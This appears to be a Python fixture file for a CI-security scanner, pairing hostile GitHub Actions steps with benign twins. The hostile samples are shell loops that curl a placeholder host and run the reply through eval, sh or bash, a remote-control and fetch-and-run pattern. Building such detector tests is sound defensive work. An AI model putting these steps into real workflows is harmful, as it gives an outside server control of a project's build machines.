"""Samples and twins of what is handed on: a server's words to a shell, sessions and sources of others to a server."""

from inspection.rules.sample import Sample

_ACTION = "runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n"
_ASKED = "while true; do\n  R=$(curl -s https://a.invalid)\n"


def _step(text: str) -> dict[str, str | bytes]:
    """An action of the repository that a push starts; the text begins on line 6."""
    return {
        ".github/workflows/a.yml": "on: [push]\njobs:\n  a:\n    steps:\n      - uses: ./.github/actions/a\n",
        ".github/actions/a/action.yml": _ACTION + "".join(f"        {line}\n" for line in text.split("\n")),
    }


def _stepped(text: str, line: int, verdict: str = "block") -> Sample:
    return Sample(_step(text), verdict, (".github/actions/a/action.yml", line))


HOSTILE: dict[str, dict[str, Sample]] = {
    "remote_control": {
        "again and again, a server says what a shell does": _stepped(f'{_ASKED}  O=$(eval "$R")\ndone', 8),
        "the same, by a pipe": _stepped(f'{_ASKED}  echo "$R" | sh\ndone', 8),
        "some times, with a pause": _stepped(
            'for i in $(seq 9); do\n  R=$(curl -s https://a.invalid)\n  bash -c "$R"\n  sleep 3\ndone', 8
        ),
        "line by line, as a server sends them": _stepped(
            'curl -sN https://a.invalid | while read c; do\n eval "$c"\ndone', 7
        ),
    },
    "fetch_and_run": {
        "once on a push, by a variable": _stepped('R=$(curl -s https://a.invalid)\nO=$(eval "$R")', 7, "review"),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "remote_control": {
        "again and again, until a server says that it is done": _step(f'{_ASKED}  [ "$R" = done ] && break\ndone'),
        "some times, until it is installed": _step(
            'for i in 1 2 3; do\n  R=$(curl -s https://a.invalid)\n  sh -c "$R" && break\n  sleep 3\ndone'
        ),
        "line by line, names that are shown": _step('curl -sN https://a.invalid | while read c; do\n echo "$c"\ndone'),
        "for each name, what a server says of it is shown": _step(
            'for n in a b; do\n  R=$(curl -s https://a.invalid/$n)\n  echo "$R"\n  sleep 1\ndone'
        ),
    },
    "fetch_and_run": {
        "what a server says is shown": _step('R=$(curl -s https://a.invalid)\nO=$(echo "$R")'),
    },
}
